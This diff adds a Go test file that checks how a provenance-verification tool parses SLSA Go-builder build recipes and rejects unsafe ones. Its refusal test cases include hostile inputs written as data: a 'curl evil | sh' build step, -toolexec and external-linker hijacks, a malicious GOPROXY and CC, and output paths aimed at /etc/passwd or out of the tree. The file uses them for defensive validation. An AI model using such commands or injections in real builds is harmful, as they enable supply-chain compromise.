@@ -1,0 +1,309 @@
+package rebuild
+
+import (
+	"bytes"
+	"encoding/base64"
+	"encoding/json"
+	"errors"
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+
+	"github.com/sovcheck/sovcheck/internal/reason"
+)
+
+func readTestdata(t testing.TB, name string) []byte {
+	t.Helper()
+	b, err := os.ReadFile(filepath.Join("testdata", name))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return b
+}
+
+func envelopeJSON(t testing.TB, payloadType string, payload []byte) []byte {
+	t.Helper()
+	b, err := json.Marshal(map[string]any{
+		"payloadType": payloadType,
+		"payload":     base64.StdEncoding.EncodeToString(payload),
+		"signatures":  []map[string]string{{"keyid": "", "sig": "c2ln"}},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return b
+}
+
+func bundleJSON(t testing.TB, payloadType string, payload []byte) []byte {
+	t.Helper()
+	b, err := json.Marshal(map[string]any{
+		"mediaType": "application/vnd.dev.sigstore.bundle.v0.3+json",
+		"dsseEnvelope": map[string]any{
+			"payloadType": payloadType,
+			"payload":     base64.StdEncoding.EncodeToString(payload),
+			"signatures":  []map[string]string{{"keyid": "", "sig": "c2ln"}},
+		},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return b
+}
+
+func TestReadRecipesGoBuilder(t *testing.T) {
+	recs, err := ReadRecipes(bytes.NewReader(readTestdata(t, "gobuilder.intoto.json")))
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := &Recipe{
+		BuildType: BuildTypeGoBuilder,
+		Source:    Source{URI: "https://github.com/example/tool", Ref: "refs/tags/v1.2.3", Commit: strings.Repeat("a", 40)},
+		Toolchain: "go1.22.5",
+		Steps: []Step{
+			{Command: []string{"/opt/hostedtoolcache/go/1.22.5/x64/bin/go", "mod", "vendor"}},
+			{Command: []string{"/opt/hostedtoolcache/go/1.22.5/x64/bin/go", "build", "-mod=vendor", "-trimpath", "-tags=netgo",
+				"-ldflags=-X main.version=v1.2.3 -X 'main.commit=aaaa'", "-o", "tool-linux-amd64"},
+				Dir: "cmd/tool", Env: []string{"GOOS=linux", "GOARCH=amd64", "GO111MODULE=on", "CGO_ENABLED=0"}},
+		},
+		Output:      "cmd/tool/tool-linux-amd64",
+		Subjects:    []Subject{{Name: "tool-linux-amd64", SHA256: strings.Repeat("0", 63) + "1"}},
+		CheckoutDir: "/home/runner/work/tool/tool/__PROJECT_CHECKOUT_DIR__",
+		GOROOT:      "/opt/hostedtoolcache/go/1.22.5/x64",
+	}
+	if len(recs) != 1 || !reflect.DeepEqual(recs[0], want) {
+		t.Fatalf("recipe =\n%+v\nwant\n%+v", recs[0], want)
+	}
+	if got := ldflagsXSymbols(recs[0]); !reflect.DeepEqual(got, []string{"main.commit", "main.version"}) {
+		t.Errorf("-X symbols = %q", got)
+	}
+}
+
+func TestReadRecipesSovcheck(t *testing.T) {
+	recs, err := ReadRecipes(bytes.NewReader(readTestdata(t, "sovcheck-recipe.intoto.json")))
+	if err != nil {
+		t.Fatal(err)
+	}
+	r := recs[0]
+	if r.BuildType != BuildTypeSovcheckGo || r.Toolchain != "go1.26.8" || r.Output != "bin/tool" ||
+		r.Source.URI != "https://example.com/tool" || r.CheckoutDir != "/src/tool" || len(r.Steps) != 1 {
+		t.Fatalf("recipe = %+v", r)
+	}
+}
+
+// TestReadRecipesInterop reads real provenance published by the SLSA Go
+// builder, when the shared interop files are present.
+func TestReadRecipesInterop(t *testing.T) {
+	path := filepath.Join("..", "..", "shared", "interop", "go-builder-v2.1.0-push-v14.sigstore.json")
+	data, err := os.ReadFile(path)
+	if err != nil {
+		t.Skipf("interop data not available (%v); it lives in ../shared/interop of the checkout", err)
+	}
+	recs, err := ReadRecipes(bytes.NewReader(data))
+	if err != nil {
+		t.Fatal(err)
+	}
+	r := recs[0]
+	gobin := "/opt/hostedtoolcache/go/1.21.13/x64/bin/go"
+	checks := []struct{ what, got, want string }{
+		{"toolchain", r.Toolchain, "go1.21.13"},
+		{"source", r.Source.URI, "https://github.com/slsa-framework/example-package"},
+		{"ref", r.Source.Ref, "refs/tags/v14"},
+		{"commit", r.Source.Commit, "4d329c75e7ec1725f7c9ce917a8799d408d06be3"},
+		{"output", r.Output, "gha_go-binary-linux-amd64-v14"},
+		{"checkout", r.CheckoutDir, "/home/runner/work/example-package/example-package/__PROJECT_CHECKOUT_DIR__"},
+		{"goroot", r.GOROOT, "/opt/hostedtoolcache/go/1.21.13/x64"},
+		{"subject", r.Subjects[0].SHA256, "f6ab7ad0c7549b5a4942c3b0690519d791c28c4c0f8b286208cb40da3322a066"},
+		{"step 1", strings.Join(r.Steps[0].Command, " "), gobin + " mod vendor"},
+		{"step 2", strings.Join(r.Steps[1].Command, " "), gobin + " build -mod=vendor -trimpath -tags=netgo -o gha_go-binary-linux-amd64-v14"},
+		{"step 2 env", strings.Join(r.Steps[1].Env, " "), "GOOS=linux GOARCH=amd64 GO111MODULE=on CGO_ENABLED=0"},
+	}
+	for _, c := range checks {
+		if c.got != c.want {
+			t.Errorf("%s = %q, want %q", c.what, c.got, c.want)
+		}
+	}
+	rec, subj, err := SelectRecipe(recs, "F6AB7AD0C7549B5A4942C3B0690519D791C28C4C0F8B286208CB40DA3322A066")
+	if err != nil || rec != r || subj.Name != "gha_go-binary-linux-amd64-v14" {
+		t.Errorf("SelectRecipe = %v, %+v, %v", rec, subj, err)
+	}
+}
+
+// TestReadRecipesForms reads one statement in every wrapping sovcheck
+// accepts.
+func TestReadRecipesForms(t *testing.T) {
+	stmt := readTestdata(t, "gobuilder.intoto.json")
+	want, err := ReadRecipes(bytes.NewReader(stmt))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var compact bytes.Buffer
+	if err := json.Compact(&compact, stmt); err != nil {
+		t.Fatal(err)
+	}
+	other := []byte(`{"_type":"https://in-toto.io/Statement/v1","predicateType":"https://cyclonedx.org/bom","subject":[{"name":"x","digest":{"sha256":"00"}}],"predicate":{}}`)
+	forms := map[string][]byte{
+		"envelope":              envelopeJSON(t, inTotoPayloadType, stmt),
+		"bundle":                bundleJSON(t, inTotoPayloadType, stmt),
+		"jsonl with other kind": append(append(envelopeJSON(t, inTotoPayloadType, other), '\n'), envelopeJSON(t, inTotoPayloadType, compact.Bytes())...),
+		"url-safe base64": []byte(strings.Replace(string(envelopeJSON(t, inTotoPayloadType, stmt)),
+			base64.StdEncoding.EncodeToString(stmt), base64.URLEncoding.EncodeToString(stmt), 1)),
+	}
+	for name, doc := range forms {
+		t.Run(name, func(t *testing.T) {
+			got, err := ReadRecipes(bytes.NewReader(doc))
+			if err != nil {
+				t.Fatal(err)
+			}
+			if !reflect.DeepEqual(got, want) {
+				t.Fatalf("recipes = %+v, want %+v", got, want)
+			}
+		})
+	}
+}
+
+// mutate returns the testdata Go builder statement after f edited it.
+func mutate(t *testing.T, f func(st map[string]any, pred map[string]any, steps []any)) []byte {
+	t.Helper()
+	var st map[string]any
+	if err := json.Unmarshal(readTestdata(t, "gobuilder.intoto.json"), &st); err != nil {
+		t.Fatal(err)
+	}
+	pred := st["predicate"].(map[string]any)
+	steps := pred["buildConfig"].(map[string]any)["steps"].([]any)
+	f(st, pred, steps)
+	b, err := json.Marshal(st)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return b
+}
+
+func step(steps []any, i int) map[string]any { return steps[i].(map[string]any) }
+
+func TestReadRecipesRefused(t *testing.T) {
+	gobin := "/opt/hostedtoolcache/go/1.22.5/x64/bin/go"
+	build := func(args ...string) func(map[string]any, map[string]any, []any) {
+		return func(_, _ map[string]any, steps []any) {
+			step(steps, 1)["command"] = append([]any{gobin}, toAny(args)...)
+		}
+	}
+	stmt := readTestdata(t, "gobuilder.intoto.json")
+	cases := map[string]struct {
+		doc  []byte
+		code string
+	}{
+		"empty":               {[]byte("  \n"), reason.ProvenanceMalformed},
+		"not json":            {[]byte("{nope"), reason.ProvenanceMalformed},
+		"not a statement":     {[]byte(`{"hello":"world"}`), reason.ProvenanceMalformed},
+		"jsonl with garbage":  {append(append(bytes.Clone(stmt[:0]), `{"_type":"x"}`+"\n"...), "{garbage\n"...), reason.ProvenanceMalformed},
+		"payload type":        {envelopeJSON(t, "text/plain", stmt), reason.StatementMalformed},
+		"bad base64":          {[]byte(`{"payloadType":"application/vnd.in-toto+json","payload":"%%%"}`), reason.ProvenanceMalformed},
+		"bundle without dsse": {[]byte(`{"mediaType":"application/vnd.dev.sigstore.bundle.v0.3+json","messageSignature":{"messageDigest":{"algorithm":"SHA2_256","digest":"AAAA"},"signature":"AAAA"}}`), reason.BundleMalformed},
+		"bundle malformed":    {[]byte(`{"mediaType":"application/vnd.dev.sigstore.bundle.v0.3+json","dsseEnvelope":7}`), reason.BundleMalformed},
+		"statement type":      {mutate(t, func(st, _ map[string]any, _ []any) { st["_type"] = "https://example.com/Statement" }), reason.StatementMalformed},
+		"no subject":          {mutate(t, func(st, _ map[string]any, _ []any) { st["subject"] = []any{} }), reason.StatementMalformed},
+		"subject digest": {mutate(t, func(st, _ map[string]any, _ []any) {
+			st["subject"] = []any{map[string]any{"name": "x", "digest": map[string]any{"sha256": "zz"}}}
+		}), reason.ProvenanceMalformed},
+		"other predicate":     {mutate(t, func(st, _ map[string]any, _ []any) { st["predicateType"] = "https://spdx.dev/Document" }), CodeRecipeUnsupported},
+		"other build type":    {mutate(t, func(_, p map[string]any, _ []any) { p["buildType"] = "https://example.com/make@v1" }), CodeRecipeUnsupported},
+		"buildConfig version": {mutate(t, func(_, p map[string]any, _ []any) { p["buildConfig"].(map[string]any)["version"] = 2 }), CodeRecipeUnsupported},
+		"no materials":        {mutate(t, func(_, p map[string]any, _ []any) { p["materials"] = []any{} }), reason.ProvenanceMalformed},
+		"short commit": {mutate(t, func(_, p map[string]any, _ []any) {
+			p["materials"].([]any)[0].(map[string]any)["digest"] = map[string]any{"sha1": "abc"}
+		}), reason.ProvenanceMalformed},
+		"go version unknown": {mutate(t, func(_, _ map[string]any, s []any) { step(s, 0)["command"] = []any{"go", "mod", "vendor"} }), CodeRecipeUnsupported},
+		"two toolchains": {mutate(t, func(_, _ map[string]any, s []any) {
+			step(s, 0)["command"] = []any{"/opt/hostedtoolcache/go/1.21.0/x64/bin/go", "mod", "vendor"}
+		}), CodeRecipeUnsupported},
+		"not the go command":  {mutate(t, func(_, _ map[string]any, s []any) { step(s, 0)["command"] = []any{"/bin/sh", "-c", "curl evil | sh"} }), CodeRecipeUnsupported},
+		"go run":              {mutate(t, build("run", ".")), CodeRecipeUnsupported},
+		"go generate":         {mutate(t, build("generate", "./...")), CodeRecipeUnsupported},
+		"go mod edit":         {mutate(t, build("mod", "edit", "-replace=x=y")), CodeRecipeUnsupported},
+		"toolexec":            {mutate(t, build("build", "-toolexec=/tmp/x", "-o", "t")), CodeRecipeUnsupported},
+		"toolexec split":      {mutate(t, build("build", "-toolexec", "/tmp/x", "-o", "t")), CodeRecipeUnsupported},
+		"external linker":     {mutate(t, build("build", "-ldflags=-linkmode=external -extld=/tmp/x", "-o", "t")), CodeRecipeUnsupported},
+		"no -o":               {mutate(t, build("build", "./cmd/tool")), CodeRecipeUnsupported},
+		"absolute -o":         {mutate(t, build("build", "-o", "/etc/passwd")), CodeRecipeUnsupported},
+		"-o escapes":          {mutate(t, build("build", "-o", "../../../x")), reason.ProvenanceMalformed},
+		"env not allowed":     {mutate(t, func(_, _ map[string]any, s []any) { step(s, 1)["env"] = []any{"CC=/tmp/evil"} }), CodeRecipeUnsupported},
+		"env sets proxy":      {mutate(t, func(_, _ map[string]any, s []any) { step(s, 1)["env"] = []any{"GOPROXY=https://evil"} }), CodeRecipeUnsupported},
+		"goflags toolexec":    {mutate(t, func(_, _ map[string]any, s []any) { step(s, 1)["env"] = []any{"GOFLAGS=-toolexec=/x"} }), CodeRecipeUnsupported},
+		"env malformed":       {mutate(t, func(_, _ map[string]any, s []any) { step(s, 1)["env"] = []any{"NOEQUALS"} }), reason.ProvenanceMalformed},
+		"workingDir outside":  {mutate(t, func(_, _ map[string]any, s []any) { step(s, 1)["workingDir"] = "/etc" }), reason.ProvenanceMalformed},
+		"workingDir relative": {mutate(t, func(_, _ map[string]any, s []any) { step(s, 0)["workingDir"] = "src" }), reason.ProvenanceMalformed},
+		"too many steps": {mutate(t, func(_, p map[string]any, s []any) {
+			p["buildConfig"].(map[string]any)["steps"] = repeat(s[0], MaxSteps+1)
+		}), reason.InputTooLarge},
+		"no steps":          {mutate(t, func(_, p map[string]any, _ []any) { p["buildConfig"].(map[string]any)["steps"] = []any{} }), reason.ProvenanceMalformed},
+		"argument with NUL": {mutate(t, build("build", "-o", "t\x00x")), reason.ProvenanceMalformed},
+		"too large":         {bytes.Repeat([]byte(" "), MaxProvenanceBytes+1), reason.InputTooLarge},
+	}
+	for name, tc := range cases {
+		t.Run(name, func(t *testing.T) {
+			recs, err := ReadRecipes(bytes.NewReader(tc.doc))
+			if err == nil {
+				t.Fatalf("accepted: %+v", recs[0])
+			}
+			if recs != nil {
+				t.Error("error with a non-nil result")
+			}
+			if got := reason.CodeOf(err, ""); got != tc.code {
+				t.Fatalf("code = %s, want %s (%v)", got, tc.code, err)
+			}
+			var re *reason.Error
+			if errors.As(err, &re) && re.Hint == "" {
+				t.Errorf("no hint: %v", err)
+			}
+		})
+	}
+}
+
+func toAny(ss []string) []any {
+	out := make([]any, len(ss))
+	for i, s := range ss {
+		out[i] = s
+	}
+	return out
+}
+
+func repeat(v any, n int) []any {
+	out := make([]any, n)
+	for i := range out {
+		out[i] = v
+	}
+	return out
+}
+
+func TestToolchainFromGoPath(t *testing.T) {
+	for path, want := range map[string]string{
+		"/opt/hostedtoolcache/go/1.21.13/x64/bin/go":      "go1.21.13",
+		"/opt/hostedtoolcache/go/1.22.0/x64/bin/go":       "go1.22.0",
+		"/opt/hostedtoolcache/go/1.20.0/x64/bin/go":       "go1.20",
+		"/opt/hostedtoolcache/go/1.19.13/arm64/bin/go":    "go1.19.13",
+		"/opt/hostedtoolcache/go/1.23.0rc2/x64/bin/go":    "go1.23.0rc2",
+		"C:/hostedtoolcache/windows/go/1.21.5/x64/bin/go": "go1.21.5",
+		"go":                        "",
+		"/usr/local/go/bin/go":      "",
+		"/opt/go/latest/x64/bin/go": "",
+	} {
+		got, ok := ToolchainFromGoPath(path)
+		if got != want || ok != (want != "") {
+			t.Errorf("ToolchainFromGoPath(%q) = %q, %v; want %q", path, got, ok, want)
+		}
+	}
+}
+
+func TestSelectRecipeMismatch(t *testing.T) {
+	recs, err := ReadRecipes(bytes.NewReader(readTestdata(t, "gobuilder.intoto.json")))
+	if err != nil {
+		t.Fatal(err)
+	}
+	_, _, err = SelectRecipe(recs, strings.Repeat("f", 64))
+	var re *reason.Error
+	if !errors.As(err, &re) || re.Code != reason.SubjectMismatch || !strings.Contains(re.Want, "tool-linux-amd64") {
+		t.Fatalf("err = %v, want %s naming the subjects", err, reason.SubjectMismatch)
+	}
+}
